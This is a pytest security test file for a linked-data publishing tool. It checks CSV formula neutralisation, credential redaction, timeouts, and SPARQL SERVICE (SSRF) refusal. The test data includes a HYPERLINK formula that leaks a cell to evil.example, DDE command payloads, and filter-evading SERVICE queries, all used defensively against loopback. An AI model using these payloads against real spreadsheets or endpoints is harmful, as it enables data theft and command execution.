"""Safe to put on the internet (issue 13): what a hostile document, option or server can do to a build,
a push or the command line. Loopback only, bounded in time."""

from __future__ import annotations

import csv
import io

import pytest

from conftest import BASE, EXAMPLE, build_text

from lodpub.csvsafe import safe_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"书报费")'
ATSUM = "@SUM(1+1)*cmd|' /C calc'!A0"
SPACED = "  +cmd|' /C notepad'!A0"


def _is_formula(cell: str) -> bool:
    return cell.startswith(("\t", "\r")) or (cell.lstrip()[:1] in ("=", "+", "-", "@") and safe_cell(cell) != cell)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("  =1", "'  =1"),
        ("\t1", "'\t1"),
        ("\r=1", "'\r=1"),
        ("\u3000=1", "'\u3000=1"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1,234.5", "-1,234.5"),
        ("-", "'-"),
        ("书报费", "书报费"),
        ("", ""),
        ("a=b", "a=b"),
        (12, 12),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(value, expected):
    assert safe_cell(value) == expected


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    """The example with project names and a row label that spreadsheets would run."""

    folder = tmp_path_factory.mktemp("hostile")
    text = EXAMPLE.read_text(encoding="utf-8")
    text = text.replace("其他运转类\t书报费\t", f"其他运转类\t{HYPERLINK}\t", 1)
    text = text.replace("其他运转类\t参事事务费\t", f"其他运转类\t{ATSUM}\t", 1)
    text = text.replace("其他运转类\t维稳费\t", f"其他运转类\t{SPACED}\t", 1)
    assert HYPERLINK in text and ATSUM in text and SPACED in text
    return build_text(text, folder, "hostile.txt")


def test_formula_cells_are_neutralised_in_every_csv(hostile_build):
    seen = set()
    for name in ("budget-lines.csv", "accounting.csv", "skipped.csv"):
        text = (hostile_build / name).read_text(encoding="utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not _is_formula(cell), (name, cell)
                seen.add(cell)
    assert "'" + HYPERLINK in seen and "'" + ATSUM in seen and "'" + SPACED.strip() in seen  # the reader trims the spaces


def test_numbers_stay_numbers(hostile_build):
    rows = list(csv.DictReader((hostile_build / "budget-lines.csv").open(encoding="utf-8-sig")))
    assert rows and all(r["amount"] == "" or r["amount"].lstrip("-").replace(".", "").isdigit() for r in rows)
    names = {r["project_name"] for r in rows}
    assert "'" + HYPERLINK in names


def test_query_csv_is_neutralised(hostile_build):
    from click.testing import CliRunner

    from lodpub.cli import main

    q = 'PREFIX lp: <https://w3id.org/lodpub/ontology#> SELECT ?name WHERE { ?p ?x ?name FILTER(isLiteral(?name) && STRSTARTS(STR(?name), "=HYPERLINK")) } LIMIT 1'
    result = CliRunner().invoke(main, ["query", q, "--store", str(hostile_build), "--format", "csv"])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert len(lines) == 2 and lines[1].startswith("'=HYPERLINK") or lines[1].startswith("\"'=HYPERLINK")


# ---- push: credentials, a server that never answers, bad URLs ----------------------------------------

import base64  # noqa: E402
import http.server  # noqa: E402
import logging  # noqa: E402
import socket  # noqa: E402
import threading  # noqa: E402
import time  # noqa: E402

from lodpub.errors import LodpubError  # noqa: E402
from lodpub.push import push, redact  # noqa: E402
from test_push import FakeStore, make_build  # noqa: E402

PASSWORD = "s3cr%3At-pw"  # percent-encoded ':' inside: the password is "s3cr:t-pw"


def _invoke(args):
    from click.testing import CliRunner

    from lodpub.cli import main

    return CliRunner().invoke(main, args)


def _one_line_error(result):
    """The CLI failed with exit code 1 and one line on the terminal, no traceback."""
    assert result.exit_code not in (0, None), result.output
    assert "Traceback" not in result.output and result.exc_info[0] is SystemExit, result.output
    lines = [line for line in result.output.splitlines() if line.startswith("Error:")]
    assert len(lines) == 1, result.output
    return lines[0]


class AuthStore(FakeStore):
    """The fake Graph Store behind basic authentication; records each request's Authorization header."""

    seen: list = []

    def _authorised(self):
        header = self.headers.get("Authorization")
        type(self).seen.append(header)
        if header is None:
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="store"')
            self.send_header("Content-Length", "0")
            self.end_headers()
            return False
        return True

    def do_GET(self):
        if self._authorised():
            super().do_GET()

    def do_PUT(self):
        if self._authorised():
            super().do_PUT()

    def do_POST(self):
        if self._authorised():
            super().do_POST()

    def do_DELETE(self):
        if self._authorised():
            super().do_DELETE()


@pytest.fixture
def auth_store():
    AuthStore.graphs, AuthStore.failures, AuthStore.limit, AuthStore.log, AuthStore.seen = {}, 0, 10**9, [], []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), AuthStore)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port, AuthStore
    server.shutdown()
    server.server_close()


def test_credentials_in_the_url_are_used_and_never_printed(auth_store, tmp_path, caplog, monkeypatch):
    port, store = auth_store
    monkeypatch.delenv("LODPUB_PUSH_USER", raising=False)
    monkeypatch.setenv("NETRC", str(tmp_path / "no-netrc"))
    build = make_build(tmp_path / "b", {"a1b2c3d4e5f60001": 3})
    endpoint = f"http://dba:{PASSWORD}@127.0.0.1:{port}/store"
    store.failures = 2  # two 503s: two retry warnings that name the endpoint
    caplog.set_level(logging.INFO)
    report = push(build, endpoint, backoff=0.01)
    expected = "Basic " + base64.b64encode(b"dba:s3cr:t-pw").decode()
    assert expected in store.seen
    assert store.graphs and report.graphs
    store.failures = 100
    with pytest.raises(LodpubError) as failure:
        push(build, endpoint, retries=1, backoff=0.01)
    result = _invoke(["push", str(build), "--endpoint", endpoint, "--retries", "0"])
    printed = "\n".join([caplog.text, str(report), repr(report), str(failure.value), result.output])
    assert "retrying" in caplog.text and "dba:***@" in printed
    for secret in ("s3cr", PASSWORD, "t-pw"):
        assert secret not in printed
    _one_line_error(result)


def test_redact():
    assert redact("http://u:p@h:1/x?y") == "http://u:***@h:1/x?y"
    assert redact("http://u@h/x") == "http://u@h/x"
    assert redact("https://h/x") == "https://h/x"


@pytest.fixture
def silent_server():
    """A server that accepts connections and never answers (nor closes them)."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    held, stop = [], threading.Event()

    def accept():
        listener.settimeout(0.2)
        while not stop.is_set():
            try:
                held.append(listener.accept()[0])
            except OSError:
                pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{listener.getsockname()[1]}/store", held
    stop.set()
    thread.join(2)
    for s in held:
        s.close()
    listener.close()


def test_a_server_that_never_answers_costs_a_bounded_time(silent_server, tmp_path):
    endpoint, held = silent_server
    build = make_build(tmp_path / "b", {"a1b2c3d4e5f60001": 3})
    started = time.monotonic()
    with pytest.raises(LodpubError, match=r"no answer within 0.5 s \(--read-timeout\)"):
        push(build, endpoint, read_timeout=0.5, retries=2, backoff=0.01)
    assert time.monotonic() - started < 10 and held
    started = time.monotonic()  # the deadline ends it before the retries are spent
    with pytest.raises(LodpubError, match="deadline"):
        push(build, endpoint, read_timeout=0.5, retries=100, backoff=0.01, deadline=2)
    assert time.monotonic() - started < 6
    started = time.monotonic()
    result = _invoke(["push", str(build), "--endpoint", endpoint, "--read-timeout", "0.5", "--deadline", "2"])
    assert "deadline" in _one_line_error(result) and time.monotonic() - started < 10


@pytest.mark.parametrize(
    "endpoint", ["http://127.0.0.1:notaport/x", "ftp://127.0.0.1/x", "http:///x", "http://127.0.0.1:99999/x", "not a url", "http://[::1/x"]
)
def test_an_unusable_endpoint_is_one_line(endpoint, tmp_path):
    build = make_build(tmp_path / "b", {"a1b2c3d4e5f60001": 3})
    line = _one_line_error(_invoke(["push", str(build), "--endpoint", endpoint]))
    assert "endpoint" in line


def test_a_refused_connection_is_one_line(tmp_path):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    build = make_build(tmp_path / "b", {"a1b2c3d4e5f60001": 3})
    line = _one_line_error(_invoke(["push", str(build), "--endpoint", f"http://u:pw@127.0.0.1:{port}/x", "--retries", "0"]))
    assert "refused" in line.lower() and "pw" not in line and "HTTPConnectionPool" not in line


# ---- every command with bad arguments: one line, an exit code, no traceback ---------------------------

import os  # noqa: E402
import random  # noqa: E402
import signal  # noqa: E402
import subprocess  # noqa: E402
import sys  # noqa: E402

from conftest import ROOT  # noqa: E402


@pytest.fixture(scope="module")
def bad_files(tmp_path_factory):
    from PIL import Image

    folder = tmp_path_factory.mktemp("bad")
    (folder / "random.pdf").write_bytes(random.Random(13).randbytes(5000))
    Image.new("RGB", (400, 560), "white").save(folder / "scan.pdf")  # an image and no text
    (folder / "name\nwith newline.pdf").write_bytes(random.Random(14).randbytes(500))
    (folder / "a-file").write_text("x", encoding="utf-8")
    (folder / "bad.rq").write_bytes(b"\xff\xfe not utf-8")
    return folder


def _bad_arguments(f, example_out):
    ex = str(EXAMPLE)
    out = str(f / "out")
    return [
        ["build", ex, "--out", out, "--license", "CC-BY"],
        ["build", ex, "--out", out, "--license", "not an iri"],
        ["build", ex, "--out", out, "--base", "http://x y/"],
        ["build", ex, "--out", out, "--base", "http://x/<a>/"],
        ["build", ex, "--out", out, "--base", 'http://x/"a"/'],
        ["build", ex, "--out", out, "--base", "http://x/{a}|/"],
        ["build", ex, "--out", out, "--base", "http://x/a\\b^`/"],
        ["build", ex, "--out", out, "--base", "relative/path/"],
        ["build", ex, "--out", out, "--base", "ftp://x/"],
        ["build", ex, "--out", out, "--base", "http://x/no-slash"],
        ["build", ex, "--out", out, "--issued", "2024-13-45"],
        ["build", ex, "--out", out, "--issued", "yesterday"],
        ["build", ex, "--out", out, "--endpoint", "not a url"],
        ["build", ex, "--out", out, "--jobs", "0"],
        ["build", ex, "--out", out, "--max-size", "5XB"],
        ["build", ex, "--out", out, "--max-size", "10KB"],
        ["validate", ex, "--max-size", "-1"],
        ["build", ex, "--out", str(f / "a-file")],
        ["build", str(f / "missing.txt"), "--out", out],
        ["build", str(f / "random.pdf"), "--out", out],
        ["build", str(f / "scan.pdf"), "--out", out],
        ["build", str(f / "name\nwith newline.pdf"), "--out", out],
        ["build", "--out", out],
        ["validate", str(f / "missing.txt")],
        ["validate", ex, "--base", "http://x y/"],
        ["validate", ex, "--report", str(f / "no-folder" / "r.ttl")],
        ["query", "@" + str(f / "missing.rq"), "--store", str(example_out)],
        ["query", "@" + str(f / "bad.rq"), "--store", str(example_out)],
        ["query", "SELECT * {", "--store", str(example_out)],
        ["query", "ASK {}", "--store", str(f / "no-store")],
        ["query", "ASK {}", "--store", str(example_out), "--format", "xml"],
        ["serve", str(f / "no-store")],
        ["serve", str(example_out), "--port", "99999"],
        ["serve", str(example_out), "--timeout", "-1"],
        ["push", str(f / "no-store"), "--endpoint", "http://127.0.0.1:1/x"],
        ["push", str(example_out), "--endpoint", "http://127.0.0.1:notaport/x"],
        ["push", str(example_out), "--endpoint", "http://127.0.0.1:1/x", "--deadline", "0"],
        ["frobnicate"],
    ]


def test_every_command_with_bad_arguments_says_so_in_one_line(bad_files, example_build):
    _, example_out = example_build
    for args in _bad_arguments(bad_files, example_out):
        result = _invoke(args)
        assert result.exit_code in (1, 2), (args, result.exit_code, result.output)
        assert "Traceback" not in result.output and not isinstance(result.exception, (AssertionError, TypeError))
        assert result.exc_info[0] is SystemExit, (args, result.exc_info)
        lines = result.output.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("Error: "), (args, result.output)


def test_what_the_messages_say(bad_files, example_build):
    _, example_out = example_build
    f = bad_files

    def line(*args):
        result = _invoke(list(args))
        return result.output.strip()

    assert "random.pdf: not a PDF" in line("build", str(f / "random.pdf"), "--out", str(f / "o"))
    assert "scan.pdf: no text layer (scanned?)" in line("build", str(f / "scan.pdf"), "--out", str(f / "o"))
    assert "name\\nwith newline.pdf" in line("build", str(f / "name\nwith newline.pdf"), "--out", str(f / "o"))
    assert "month must be in 1..12" in line("build", str(EXAMPLE), "--out", str(f / "o"), "--issued", "2024-13-45")
    assert "missing.rq: no such query file" in line("query", "@" + str(f / "missing.rq"), "--store", str(example_out))
    assert "'<'" in line("build", str(EXAMPLE), "--out", str(f / "o"), "--base", "http://x/<a>/")
    assert not (f / "o").exists() and not list(f.glob(".o.*"))  # no work was started


def test_a_port_in_use_is_one_line(example_build):
    _, example_out = example_build
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen(1)
        result = _invoke(["serve", str(example_out), "--port", str(s.getsockname()[1])])
    assert result.exit_code == 1 and "in use" in result.output
    assert len(result.output.strip().splitlines()) == 1


def _run(args, **kwargs):
    env = dict(os.environ, PYTHONPATH=str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", ""))
    return subprocess.Popen(
        [sys.executable, "-m", "lodpub.cli", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True, env=env, **kwargs
    )


def _interrupt(process, after: float) -> tuple[int, str]:
    """Ctrl-C as a terminal sends it (to the whole process group), after some seconds."""
    time.sleep(after)
    os.killpg(process.pid, signal.SIGINT)
    _, err = process.communicate(timeout=60)
    time.sleep(0.5)
    with pytest.raises(ProcessLookupError):  # every process of the command has ended
        os.killpg(process.pid, 0)
    return process.returncode, err


def test_ctrl_c_during_serve_exits_130_without_traceback(example_build):
    _, example_out = example_build
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    process = _run(["serve", str(example_out), "--port", str(port)])
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), 0.2).close()
            break
        except OSError:
            time.sleep(0.2)
    code, err = _interrupt(process, 0.5)
    assert code == 130 and "Traceback" not in err and err.strip().endswith("Interrupted."), err


# ---- builds: a lock on --out, leftovers of dead builds, workers, Ctrl-C -------------------------------

from lodpub.outlock import clear_leftovers, publication_lock  # noqa: E402


@pytest.fixture(scope="module")
def copies(tmp_path_factory):
    """Eight documents (the example with a line of its own each): a build that takes a while."""
    folder = tmp_path_factory.mktemp("copies")
    text = EXAMPLE.read_text(encoding="utf-8")
    for i in range(8):
        (folder / f"doc{i}.txt").write_text(text + f"\n副本 {i}\n", encoding="utf-8")
    return folder


def _snapshot(folder):
    return {p.relative_to(folder): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def _wait_for(predicate, seconds=60):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.05)
    return False


def test_a_second_build_into_the_same_folder_fails_fast(tmp_path, copies):
    out = tmp_path / "out"
    first = _run(["build", str(copies), "--out", str(out), "-j", "2"])
    try:
        assert _wait_for(lambda: list(tmp_path.glob(".out.work-*")))
        started = time.monotonic()
        second = _invoke(["build", str(EXAMPLE), "--out", str(out)])
        assert time.monotonic() - started < 5
        assert second.exit_code == 1 and "another lodpub build is writing it" in second.output
        assert f"process {first.pid}" in second.output and len(second.output.strip().splitlines()) == 1
        assert list(tmp_path.glob(".out.work-*"))  # the running build's work is left alone
    finally:
        _, err = first.communicate(timeout=600)
    assert first.returncode == 0, err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]  # no lock file, no work folder left
    assert _invoke(["build", str(EXAMPLE), "--out", str(out), "--issued", "2024-03-01"]).exit_code == 0


def test_leftovers_of_dead_builds_are_removed_and_only_those(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "index.html").write_text("the previous publication", encoding="utf-8")
    for name in (".out.work-abc", ".out.tmp-12", ".out.old-34", ".other.work-1"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "x").write_bytes(b"x" * 1000)
    with publication_lock(out):  # a live build: its folders stay, and a second build fails
        assert (tmp_path / ".out.work-abc").is_dir() is False  # taking the lock cleared the dead ones
        (tmp_path / ".out.work-live").mkdir()
        assert _invoke(["build", str(EXAMPLE), "--out", str(out)]).exit_code == 1
        assert (tmp_path / ".out.work-live").is_dir()
    result = _invoke(["build", str(EXAMPLE), "--out", str(out), "--issued", "2024-03-01"])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == [".other.work-1", "out"]
    assert "漯河" in (out / "index.html").read_text(encoding="utf-8")


def test_a_publication_moved_aside_by_a_dead_build_is_restored(tmp_path):
    out = tmp_path / "out"
    (tmp_path / ".out.old-99").mkdir()
    (tmp_path / ".out.old-99" / "index.html").write_text("previous", encoding="utf-8")
    (tmp_path / ".out.tmp-99").mkdir()
    with publication_lock(out):
        pass
    assert (out / "index.html").read_text(encoding="utf-8") == "previous"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
    assert clear_leftovers(out) == []


def test_ctrl_c_leaves_the_previous_publication_and_nothing_else(tmp_path, copies):
    """Ctrl-C while the documents are read. A shell of its own presses it, 0.2 s after the first document's files
    appear: in the whole suite, the test's own process (threads of earlier tests beside it) could wait so long to
    run again that the build ran to its end first (exit 0, every document ok: twice in full runs, never alone)."""
    out = tmp_path / "out"
    assert _invoke(["build", str(EXAMPLE), "--out", str(out), "--issued", "2024-03-01"]).exit_code == 0
    before = _snapshot(out)
    process = _run(["build", str(copies), "--out", str(out), "-j", "2"])
    watch = f"until ls {tmp_path}/.out.work-*/*.nq.gz >/dev/null 2>&1; do sleep 0.02; done; sleep 0.2; kill -INT -{process.pid}"
    presser = subprocess.Popen(["sh", "-c", watch], start_new_session=True)
    try:
        _, err = process.communicate(timeout=120)
        presser.wait(timeout=30)
    finally:
        if presser.poll() is None:
            presser.kill()
    time.sleep(0.5)
    with pytest.raises(ProcessLookupError):  # every process of the command has ended
        os.killpg(process.pid, 0)
    code = process.returncode
    assert code == 130 and "Traceback" not in err and err.strip().splitlines()[-1] == "Interrupted.", err
    assert _snapshot(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def test_a_killed_build_takes_its_workers_along_and_the_next_build_clears_its_leftovers(tmp_path, copies):
    out = tmp_path / "out"
    process = _run(["build", str(copies), "--out", str(out), "-j", "2"])
    assert _wait_for(lambda: list(tmp_path.glob(".out.work-*/*.nq.gz")))
    os.kill(process.pid, signal.SIGKILL)
    process.communicate(timeout=60)
    assert _wait_for(lambda: _group_gone(process.pid), 10), "worker processes outlived the build"
    assert list(tmp_path.glob(".out.work-*"))
    result = _invoke(["build", str(EXAMPLE), "--out", str(out), "--issued", "2024-03-01"])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def _group_gone(pgid: int) -> bool:
    try:
        os.killpg(pgid, 0)
    except ProcessLookupError:
        return True
    return False


# ---- a document given twice ---------------------------------------------------------------------------


def test_a_document_given_twice_is_read_and_counted_once(tmp_path, example_build):
    import json

    _, example_out = example_build
    copy = tmp_path / "corpus" / "copy-of-the-example.txt"
    copy.parent.mkdir()
    copy.write_bytes(EXAMPLE.read_bytes())
    out = tmp_path / "out"
    result = _invoke(["build", str(EXAMPLE), str(copy.parent), "--out", str(out), "--issued", "2024-03-01", "--base", BASE, "-j", "1"])
    assert result.exit_code == 0, result.output
    assert result.output.count("\nok ") + result.output.startswith("ok ") == 1  # one document line
    assert f"same    {copy}: the same bytes as {EXAMPLE}, read and counted once" in result.output
    assert "from 1 document(s) (1 given twice, counted once)" in result.output
    assert "[2/2]" not in result.output
    from lodpub.build import read_and_validate

    read = []
    again = read_and_validate([str(EXAMPLE), str(copy)], base=BASE, progress=read.append, validate=False)
    assert len(read) == 1 and len(again.documents) == 1 and again.duplicates == [(str(copy), str(EXAMPLE))]
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert len(summary["documents"]) == 1
    assert summary["duplicates"] == [{"location": str(copy), "same_as": str(EXAMPLE)}]
    page = (out / "index.html").read_text(encoding="utf-8")
    assert "<b>1</b><span>份文件 documents</span>" in page and 'id="duplicates"' in page
    assert page.count('<tr class="document">') == 1
    for name in ("lodpub.nq.gz", "budget-lines.csv", "validation-report.ttl"):  # the data as of one input
        assert (out / name).read_bytes() == (example_out / name).read_bytes(), name


# ---- input size ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, size",
    [("50MB", 50 << 20), ("50M", 50 << 20), ("1.5 GB", 3 << 29), ("800k", 800 << 10), ("1048576", 1 << 20), ("0", None), ("none", None), ("2MiB", 2 << 20)],
)
def test_sizes_as_written(text, size):
    from lodpub.checks import parse_size

    assert parse_size(text) == size


def test_a_document_over_the_size_limit_is_refused_with_a_message(tmp_path):
    from lodpub.build import read_and_validate
    from lodpub.sources import MAX_SIZE

    assert MAX_SIZE == 50 * 1024 * 1024
    big = tmp_path / "big.txt"
    big.write_bytes(EXAMPLE.read_bytes() * 3)
    result = read_and_validate([str(EXAMPLE), str(big)], base=BASE, max_size=100_000, validate=False)
    assert [d.ok for d in result.documents] == [True, False]
    assert result.documents[1].error == (f"{big}: 130 KB (132,861 bytes), more than the limit of 97.7 KB for one document (--max-size)")
    run = _invoke(["validate", str(big), "--max-size", "100KB"])
    assert run.exit_code == 1 and "more than the limit of 100 KB" in run.output and "big.txt" in run.output


# ---- the endpoint: SERVICE (server-side request forgery), deep and large queries, large answers ----

from contextlib import contextmanager  # noqa: E402

import requests  # noqa: E402

from lodpub.serve import make_app, make_http_server  # noqa: E402
from lodpub.serve.guard import QueryRefused, check_query  # noqa: E402


@contextmanager
def _endpoint(folder, **options):
    options.setdefault("timeout", 20)
    app = make_app(folder, workers=1, **options)
    server = make_http_server(app, "127.0.0.1", 0)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/sparql"
    finally:
        server.shutdown()
        server.server_close()
        app.close()


@pytest.fixture
def listener():
    """A loopback listener that records every connection made to it."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.settimeout(0.2)
    contacted, stop = [], threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            contacted.append(conn)
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield sock.getsockname()[1], contacted
    stop.set()
    thread.join(2)
    sock.close()


def _ssrf_queries(port):
    iri = f"<http://127.0.0.1:{port}/x>"
    return [
        f"SELECT * {{ SERVICE {iri} {{ ?s ?p ?o }} }}",
        f"select * {{ service {iri} {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SeRvIcE # a comment\n\n  {iri}\n{{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE SILENT {iri} {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE{iri}{{ ?s ?p ?o }} }}",
        f"PREFIX x: <http://127.0.0.1:{port}/>\nSELECT * {{ SERVICE x:x {{ ?s ?p ?o }} }}",
        f"BASE <http://127.0.0.1:{port}/>\nSELECT * {{ SERVICE <x> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ VALUES ?e {{ {iri} }} SERVICE ?e {{ ?s ?p ?o }} }}",
        f'SELECT * {{ ?s ?p ?o FILTER(?o != "}}") {{ SERVICE {iri} {{ ?s ?p ?o }} }} }}',
        # pyoxigraph reads these as a term followed by the keyword
        f"SELECT * {{ ?s ?p 1SERVICE {iri} {{ ?s ?p ?o }} }}",
        f"SELECT * {{ ?s ?p 1.SERVICE {iri} {{ ?s ?p ?o }} }}",
        f"SELECT * {{ ?s ?p 1e5SERVICE {iri} {{ ?s ?p ?o }} }}",
        f"SELECT * {{ ?s ?p trueSERVICE {iri} {{ ?s ?p ?o }} }}",
        f"SELECT * {{ ?s ?p 'x'@en.SERVICE {iri} {{ ?s ?p ?o }} }}",
        f"PREFIX ex: <http://example.org/>\nSELECT * {{ ?s ?p ex:.SERVICE {iri} {{ ?s ?p ?o }} }}",
        f"SELECT * {{ ?s ?p [] .SERVICE {iri} {{ ?s ?p ?o }} }}",
        # an escape in a local name is not a comment nor a string
        f"PREFIX ex: <http://example.org/>\nSELECT * {{ ?s ?p ex:a\\# SERVICE {iri} {{ ?s ?p ?o }} }}",
        f"PREFIX ex: <http://example.org/>\nSELECT * {{ ?s ?p ex:a\\' SERVICE {iri} {{ ?s ?p ?o }} }}",
    ]


def test_service_is_refused_and_the_server_fetches_nothing(small_store, listener):
    port, contacted = listener
    with _endpoint(small_store) as url:
        for query in _ssrf_queries(port):
            for send in (
                lambda: requests.get(url, params={"query": query}, timeout=30),
                lambda: requests.post(url, data=query.encode(), timeout=30, headers={"Content-Type": "application/sparql-query"}),
            ):
                r = send()
                assert r.status_code == 400, (query, r.status_code, r.text)
                assert "SERVICE" in r.text and r.text.count("\n") == 1, r.text
        assert requests.get(url, params={"query": "SELECT * { ?s ?p ?o }"}, timeout=30).status_code == 200
    time.sleep(0.3)
    assert contacted == []


@pytest.mark.parametrize(
    "query",
    [
        'SELECT * { ?s ?p "SERVICE <http://127.0.0.1:1/x> { }" }',
        "SELECT * { ?s ?p '''\nSERVICE <http://127.0.0.1:1/x> {}\n''' }",
        "# SERVICE <http://127.0.0.1:1/x> { ?s ?p ?o }\nSELECT * { ?s ?p ?o }",
        "PREFIX ex: <http://example.org/>\nSELECT * { ?s ex:service ?service }",
        "SELECT * { ?s <http://example.org/SERVICE> ?o }",
    ],
)
def test_service_in_a_string_comment_iri_or_name_passes(query):
    check_query(query)


def test_allowed_service_endpoints_only(small_store, listener):
    port, contacted = listener
    allowed = f"http://127.0.0.1:{port}/x"
    check_query(f"SELECT * {{ SERVICE <{allowed}> {{ ?s ?p ?o }} }}", allow_service=[allowed])
    for refused in (
        f"SELECT * {{ SERVICE <http://127.0.0.1:{port}/y> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ VALUES ?e {{ <{allowed}> }} SERVICE ?e {{ ?s ?p ?o }} }}",
    ):
        with pytest.raises(QueryRefused, match="allows SERVICE only to"):
            check_query(refused, allow_service=[allowed])
    with _endpoint(small_store, allow_service=[allowed]) as url:
        r = requests.get(url, params={"query": f"SELECT * {{ SERVICE SILENT <{allowed}> {{ ?s ?p ?o }} }}"}, timeout=30)
        assert r.status_code == 200, r.text  # SILENT: the listener's empty answer is no error
        r = requests.get(url, params={"query": f"SELECT * {{ SERVICE <http://127.0.0.1:{port}/y> {{ ?s ?p ?o }} }}"}, timeout=30)
        assert r.status_code == 400
    time.sleep(0.3)
    assert len(contacted) >= 1  # the allowed endpoint was asked


def test_allow_service_must_be_an_http_iri(small_store):
    result = _invoke(["serve", str(small_store), "--allow-service", "not an iri"])
    assert result.exit_code == 2 and "--allow-service" in result.output and "Traceback" not in result.output


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * WHERE " + "{" * 5000 + " ?s ?p ?o " + "}" * 5000,
        "ASK { FILTER(" + "(" * 5000 + "true" + ")" * 5000 + ") }",
        "SELECT * { ?s <p> " + "[ <p> " * 5000 + "1" + " ]" * 5000 + " }",
    ],
)
def test_a_query_nested_5000_deep_is_400_not_a_dead_worker(small_store, query):
    with _endpoint(small_store) as url:
        r = requests.post(url, data={"query": query}, timeout=60)
        assert r.status_code == 400 and "nested too deep" in r.text and r.text.count("\n") == 1, r.text
        assert requests.get(url, params={"query": "ASK { ?s ?p ?o }"}, timeout=30).json()["boolean"] is True


def test_deep_operators_without_brackets_do_not_kill_the_worker(small_store):
    # 20,000 `!` or `+` overflowed the 8 MB stack of a worker's main thread (the process died: 500); parsing
    # them takes seconds of CPU, more on a busy machine: the time limit is not what this test is about
    with _endpoint(small_store, timeout=120) as url:
        for query in ("ASK { FILTER(" + "!" * 20000 + "true) }", "ASK { FILTER(" + "+".join(["1"] * 20000) + " > 0) }"):
            r = requests.post(url, data={"query": query}, timeout=120)
            assert r.status_code == 200 and r.json()["boolean"] is True, (r.status_code, r.text[:200])


def test_a_query_over_the_size_limit_is_400(small_store):
    padding = "# " + "x" * 2000 + "\n"
    with _endpoint(small_store, max_query_bytes=1000) as url:
        for send in (
            lambda q: requests.get(url, params={"query": q}, timeout=30),
            lambda q: requests.post(url, data={"query": q}, timeout=30),
            lambda q: requests.post(url, data=q.encode(), timeout=30, headers={"Content-Type": "application/sparql-query"}),
        ):
            r = send(padding + "ASK { ?s ?p ?o }")
            assert r.status_code == 400 and "query too large" in r.text and "1000 bytes" in r.text, r.text
            assert send("ASK { ?s ?p ?o }").status_code == 200
    with _endpoint(small_store) as url:  # the default: 100 KB
        r = requests.post(url, data={"query": "# " + "x" * 110_000 + "\nASK {}"}, timeout=30)
        assert r.status_code == 400 and "102400 bytes" in r.text


def _doubling(times):
    binds = " ".join(f"BIND(CONCAT(?a{i}, ?a{i}) AS ?a{i + 1})" for i in range(times))
    return f'SELECT ?a{times} {{ BIND("0123456789abcdef" AS ?a0) {binds} }}'


def test_an_answer_over_the_size_limit_is_413_and_the_server_keeps_answering(small_store):
    with _endpoint(small_store, max_answer_bytes=50_000) as url:
        r = requests.post(url, data={"query": _doubling(8)}, timeout=60)  # 4 KB: fits
        assert r.status_code == 200 and len(r.content) < 50_000
        for query, accept in (
            (_doubling(16), "application/sparql-results+json"),  # one 1 MB value
            (_doubling(16), "text/csv"),
            ("SELECT * { ?s ?p ?o . ?s2 ?p2 ?o2 . ?s3 ?p3 ?o3 }", "text/csv"),  # 8,000 rows
            ("CONSTRUCT { ?s ?p ?v } WHERE { ?s ?p ?o BIND(CONCAT(" + "STR(?o), " * 500 + "STR(?o)) AS ?v) }", "text/turtle"),
        ):
            r = requests.post(url, data={"query": query}, headers={"Accept": accept}, timeout=60)
            assert r.status_code == 413, (query, r.status_code, len(r.content))
            assert "answer too large" in r.text and "50000 bytes" in r.text and r.text.count("\n") == 1
            ok = requests.get(url, params={"query": "SELECT * { ?s ?p ?o }"}, timeout=30)
            assert ok.status_code == 200 and len(ok.json()["results"]["bindings"]) == 20
